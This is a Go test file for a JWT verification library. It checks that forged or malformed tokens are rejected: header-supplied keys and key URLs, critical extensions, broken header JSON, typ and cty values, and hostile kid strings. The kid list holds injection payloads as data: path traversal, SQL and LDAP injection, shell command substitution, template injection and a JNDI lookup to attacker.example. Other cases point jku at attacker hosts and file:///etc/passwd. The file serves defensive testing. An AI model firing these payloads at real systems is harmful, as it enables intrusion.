package verify_test

import (
	"crypto/ecdsa"
	"crypto/hmac"
	"crypto/rand"
	"crypto/sha1"
	"crypto/sha256"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/json"
	"math/big"
	"strconv"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/bearerkit/bearerkit/verify"
)

// quote writes a string as JSON.
func quote(s string) string { return string(must(json.Marshal(s))) }

// A key in the header, or a way to one, is never taken (RFC 8725 section
// 3.10): signed by the issuer's key it is noise, signed by another it is
// nothing.
func TestKeysInTheHeader(t *testing.T) {
	v, keys := build(t, nil)
	attacker := &signer{es256.kid, "ES256", newEC(es256.priv.(*ecdsa.PrivateKey).Curve)}
	pub := attacker.priv.Public().(*ecdsa.PublicKey)
	point := must(pub.ECDH()).Bytes()
	jwk := `{"kty":"EC","crv":"P-256","alg":"ES256","use":"sig","kid":"mallory","x":"` + b64(point[1:33]) + `","y":"` + b64(point[33:]) + `"}`
	template := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: testIssuer}}
	cert := must(x509.CreateCertificate(rand.Reader, template, template, pub, attacker.priv))
	sum1, sum256 := sha1.Sum(cert), sha256.Sum256(cert)
	rows := []row{{"control", es256.good(), accepted, ""}}
	for _, m := range [][]string{
		{"jwk", jwk},
		{"jku", `"https://attacker.example/jwks.json"`},
		{"jku", `"http://127.0.0.1:1/jwks.json"`},
		{"jku", `"file:///etc/passwd"`},
		{"x5u", `"https://attacker.example/chain.pem"`},
		{"x5c", `["` + base64.StdEncoding.EncodeToString(cert) + `"]`},
		{"x5t", quote(b64(sum1[:])), "x5t#S256", quote(b64(sum256[:]))},
		{"jwk", `null`, "jku", `1`, "x5u", `[]`, "x5c", `{}`},
		{"jwk", jwk, "jku", `"https://attacker.example"`, "x5u", `"https://attacker.example"`, "x5t", `"AAAA"`},
	} {
		name := strings.Join(m[:2], "=")
		name = name[:min(len(name), 30)] + strconv.Itoa(len(m))
		mallory := append([]string{"kid", `"mallory"`}, m...)
		none := append([]string{"kid", ""}, m...)
		rows = append(rows,
			row{name + " signed by the issuer", es256.token(es256.header(m...), claims()), accepted, ""},
			row{name + " signed by an attacker", attacker.token(es256.header(m...), claims()), verify.ErrSignature, ""},
			row{name + " and a kid of the attacker's", attacker.token(es256.header(mallory...), claims()), verify.ErrUnknownKey, ""},
			row{name + " without kid", attacker.token(es256.header(none...), claims()), verify.ErrSignature, ""})
	}
	run(t, v, rows)
	if len(keys.bound) != 1 || keys.bound[0] != testIssuer {
		t.Errorf("bound to %q", keys.bound)
	}
}

// No extension is supported, so one that must be understood is refused (RFC
// 7515 section 4.1.11), and so are b64 (RFC 7797 section 7) and zip.
func TestExtensions(t *testing.T) {
	v, _ := build(t, nil)
	rows := []row{
		{"control", es256.good(), accepted, ""},
		{"unknown members that are not critical", es256.token(es256.header("exp", `1`, "x-foo", `{"crit":["x"]}`, "nonce", `"n"`), claims()), accepted, ""},
		{"names alike", es256.token(es256.header("Crit", `["x"]`, "B64", `false`, "ZIP", `"DEF"`), claims()), accepted, ""},
	}
	for _, c := range []string{
		`["unknown"]`, `[]`, `"exp"`, `null`, `[1]`, `["absent"]`, `["exp","exp"]`, `["alg"]`, `["b64"]`, `{}`, `true`, `""`,
		`["http://example.invalid/UNDEFINED"]`,
	} {
		rows = append(rows, row{"crit " + c, es256.token(es256.header("crit", c, "exp", at(300)), claims()), verify.ErrCritical, "crit"})
	}
	for _, c := range []string{`false`, `true`, `null`, `"false"`} {
		rows = append(rows, row{"b64 " + c, es256.token(es256.header("b64", c), claims()), verify.ErrCritical, "b64"},
			row{"b64 critical " + c, es256.token(es256.header("b64", c, "crit", `["b64"]`), claims()), verify.ErrCritical, ""})
	}
	for _, c := range []string{`"DEF"`, `"GZIP"`, `null`, `""`} {
		rows = append(rows, row{"zip " + c, es256.token(es256.header("zip", c), claims()), verify.ErrCritical, "zip"})
	}
	rows = append(rows, row{"escaped", es256.token(es256.header()[:1]+`"\u0063rit":["x"],`+es256.header()[1:], claims()), verify.ErrCritical, "crit"})

	// RFC 7797 with the payload as it is: not even base64.
	header := es256.header("b64", `false`, "crit", `["b64"]`)
	text := enc(header) + "." + claims()
	rows = append(rows,
		row{"b64 false, raw", text + "." + b64(signature("ES256", es256.priv, text)), verify.ErrMalformed, ""},
		row{"b64 false, detached", enc(header) + ".." + b64(signature("ES256", es256.priv, text)), verify.ErrMalformed, ""})
	for i := range rows {
		if strings.HasSuffix(rows[i].name, ", raw") { // quotes and braces: no credentials at all (RFC 6750 section 2.1)
			rows[i].reason = verify.ErrSyntax
		}
	}
	run(t, v, rows)
}

func TestHeaderJSON(t *testing.T) {
	v, _ := build(t, nil)
	h := es256.header()
	inside := h[1 : len(h)-1]
	utf16le := []byte{0xff, 0xfe}
	for _, u := range utf16.Encode([]rune(h)) {
		utf16le = append(utf16le, byte(u), byte(u>>8))
	}
	sign := func(header string) string { return es256.token(header, claims()) }
	rows := []row{
		{"control", sign(h), accepted, ""},
		{"space around", sign(" \t\r\n" + h + "\n"), accepted, ""},
		{"non-ASCII noise", sign(`{"x":"é😀\ud83d\ude00",` + inside + `}`), accepted, ""},
	}
	for name, header := range map[string]string{
		"nothing in it":             ``,
		"array":                     `[` + h + `]`,
		"string":                    quote(h),
		"null":                      `null`,
		"two objects":               h + h,
		"trailing bytes":            h + "x",
		"trailing NUL":              h + "\x00",
		"cut":                       h[:len(h)-1],
		"comma at the end":          `{` + inside + `,}`,
		"BOM":                       "\ufeff" + h,
		"UTF-16":                    string(utf16le),
		"invalid UTF-8":             `{"x":"` + "\xff" + `",` + inside + `}`,
		"overlong UTF-8":            `{"x":"` + "\xc0\xaf" + `",` + inside + `}`,
		"surrogate in UTF-8":        `{"x":"` + "\xed\xa0\x80" + `",` + inside + `}`,
		"lone surrogate":            `{"x":"\ud800",` + inside + `}`,
		"lone low surrogate":        `{"x":"\udc00",` + inside + `}`,
		"lone surrogate in a name":  `{"\ud800":1,` + inside + `}`,
		"duplicate alg":             `{"alg":"ES256",` + inside + `}`,
		"duplicate alg, none first": `{"alg":"none",` + inside + `}`,
		"duplicate alg, none last":  `{` + inside + `,"alg":"none"}`,
		"duplicate kid":             `{` + inside + `,"kid":"other"}`,
		"duplicate typ":             `{` + inside + `,"typ":"JWT"}`,
		"duplicate typ, first":      `{"typ":"JWT",` + inside + `}`,
		"duplicate of no matter":    `{"x":1,"x":1,` + inside + `}`,
		"duplicate deep down":       `{"x":{"y":1,"y":2},` + inside + `}`,
		"duplicate by an escape":    `{"\u0061lg":"none",` + inside + `}`,
		"duplicate escaped last":    `{` + inside + `,"\u0061lg":"none"}`,
		"too deep":                  `{"x":` + strings.Repeat("[", 40) + strings.Repeat("]", 40) + `,` + inside + `}`,
		"number with leading zero":  `{"x":01,` + inside + `}`,
		"comment":                   `{/**/` + inside + `}`,
	} {
		if name == "nothing in it" {
			continue // that is an empty segment
		}
		rows = append(rows, row{name, sign(header), verify.ErrMalformed, "header"})
	}
	run(t, v, rows)
}

func TestTyp(t *testing.T) {
	v, _ := build(t, nil)
	strict, _ := build(t, func(c *verify.Config) { c.RFC9068 = true })
	for _, c := range []struct {
		typ              string
		reason, ofStrict verify.Reason
	}{
		{`"at+jwt"`, accepted, accepted},
		{`"AT+JWT"`, accepted, accepted},
		{`"at+JWT"`, accepted, accepted},
		{`"application/at+jwt"`, accepted, accepted},
		{`"Application/AT+JWT"`, accepted, accepted},
		{`"APPLICATION/at+jwt"`, accepted, accepted},
		{`"\u0061t+jwt"`, accepted, accepted},
		{``, accepted, verify.ErrType},
		{`"JWT"`, accepted, verify.ErrType},
		{`"jwt"`, accepted, verify.ErrType},
		{`"application/jwt"`, accepted, verify.ErrType},
		{`""`, verify.ErrType, verify.ErrType},
		{`"JOSE"`, verify.ErrType, verify.ErrType},
		{`"JOSE+JSON"`, verify.ErrType, verify.ErrType},
		{`"JWE"`, verify.ErrType, verify.ErrType},
		{`"dpop+jwt"`, verify.ErrType, verify.ErrType},
		{`"logout+jwt"`, verify.ErrType, verify.ErrType},
		{`"application/logout+jwt"`, verify.ErrType, verify.ErrType},
		{`"secevent+jwt"`, verify.ErrType, verify.ErrType},
		{`"token-introspection+jwt"`, verify.ErrType, verify.ErrType},
		{`"oauth-authz-req+jwt"`, verify.ErrType, verify.ErrType},
		{`"client-authentication+jwt"`, verify.ErrType, verify.ErrType},
		{`"statuslist+jwt"`, verify.ErrType, verify.ErrType},
		{`"kb+jwt"`, verify.ErrType, verify.ErrType},
		{`"id+jwt"`, verify.ErrType, verify.ErrType},
		{`"rt+jwt"`, verify.ErrType, verify.ErrType},
		{`"at+jwt\u0000"`, verify.ErrType, verify.ErrType},
		{`" at+jwt"`, verify.ErrType, verify.ErrType},
		{`"at+jwt "`, verify.ErrType, verify.ErrType},
		{`"at+jwt;x=y"`, verify.ErrType, verify.ErrType},
		{`"at+jwt, dpop+jwt"`, verify.ErrType, verify.ErrType},
		{`"application/"`, verify.ErrType, verify.ErrType},
		{`"application/application/at+jwt"`, verify.ErrType, verify.ErrType},
		{`"text/at+jwt"`, verify.ErrType, verify.ErrType},
		{`"at-jwt"`, verify.ErrType, verify.ErrType},
		{`"at jwt"`, verify.ErrType, verify.ErrType},
		{`"aT+jWT\u017f"`, verify.ErrType, verify.ErrType},
		{`"a\u0166+jwt"`, verify.ErrType, verify.ErrType},
		{`["at+jwt"]`, verify.ErrMalformed, verify.ErrMalformed},
		{`null`, verify.ErrMalformed, verify.ErrMalformed},
		{`1`, verify.ErrMalformed, verify.ErrMalformed},
		{`{}`, verify.ErrMalformed, verify.ErrMalformed},
		{`true`, verify.ErrMalformed, verify.ErrMalformed},
	} {
		t.Run(c.typ, func(t *testing.T) {
			tok := es256.token(es256.header("typ", c.typ), claims())
			run(t, v, []row{{"default", tok, c.reason, ""}})
			run(t, strict, []row{{"RFC 9068", tok, c.ofStrict, ""}})
		})
	}
}

// A nested JWT has no claims of its own (RFC 7519 section 5.2).
func TestCty(t *testing.T) {
	v, _ := build(t, nil)
	inner := es256.good()
	sign := func(cty, payload string) string { return es256.token(es256.header("cty", cty), payload) }
	run(t, v, []row{
		{"control", sign(`"json"`, claims()), accepted, ""},
		{"nested", sign(`"JWT"`, inner), verify.ErrType, "cty"},
		{"nested, lower case", sign(`"jwt"`, inner), verify.ErrType, "cty"},
		{"nested, media type", sign(`"application/jwt"`, inner), verify.ErrType, "cty"},
		{"said to be nested", sign(`"JWT"`, claims()), verify.ErrType, "cty"},
		{"nested and silent about it", sign(``, inner), verify.ErrMalformed, "claims"},
		{"nested as a JSON string", sign(``, quote(inner)), verify.ErrMalformed, "claims"},
		{"null", sign(`null`, claims()), verify.ErrType, "cty"},
		{"array", sign(`["JWT"]`, claims()), verify.ErrType, "cty"},
	})
}

// A kid is a string (RFC 7515 section 4.1.4) that is looked up and nothing
// else.
func TestKid(t *testing.T) {
	v, keys := build(t, nil)
	rows := []row{
		{"control", es256.good(), accepted, ""},
		{"escaped but the same", es256.token(es256.header("kid", `"\u0065s256"`), claims()), accepted, ""},
	}
	for _, kid := range []string{`null`, `1`, `[]`, `{}`, `true`, `""`, `["es256"]`} {
		rows = append(rows, row{kid, es256.token(es256.header("kid", kid), claims()), verify.ErrMalformed, "kid"})
	}
	for _, kid := range []string{
		"../../../../dev/null", "/dev/null", `..\..\windows\win.ini`, "x' UNION SELECT 'k'--", "' OR '1'='1", "|sleep 10", "$(sleep 10)",
		"`id`", "*)(uid=*))(|(uid=*", "{{7*7}}", "${jndi:ldap://attacker.example/a}", "https://attacker.example/key",
		"ES256", "es256 ", " es256", "es256\x00", "es25", "es2566", "es256\n", strings.Repeat("k", 8000),
		"\u017fs256", "%65s256", "es256;", "*", "NULL", "0",
	} {
		rows = append(rows, row{kid[:min(len(kid), 40)], es256.token(es256.header("kid", quote(kid)), claims()), verify.ErrUnknownKey, ""})
		mac := hmac.New(sha256.New, nil)
		text := enc(es256.header("alg", `"HS256"`, "kid", quote(kid))) + "." + enc(claims())
		mac.Write([]byte(text))
		rows = append(rows, row{kid[:min(len(kid), 40)] + " with an HMAC", text + "." + b64(mac.Sum(nil)), verify.ErrAlgorithm, ""})
	}
	run(t, v, rows)

	// Each kid that is not in the set asks for a newer one, once.
	for range 100 {
		keys.asked()
		refuse(t, v, es256.token(es256.header("kid", quote(rand.Text())), claims()), verify.ErrUnknownKey)
		if n, m := keys.asked(); n != 1 || m != 1 {
			t.Fatalf("asked for keys %d times, for newer ones %d times", n, m)
		}
	}
	accept(t, v, es256.good())
	if n, m := keys.asked(); n != 1 || m != 0 {
		t.Errorf("a good token asked for keys %d times, for newer ones %d times", n, m)
	}
}
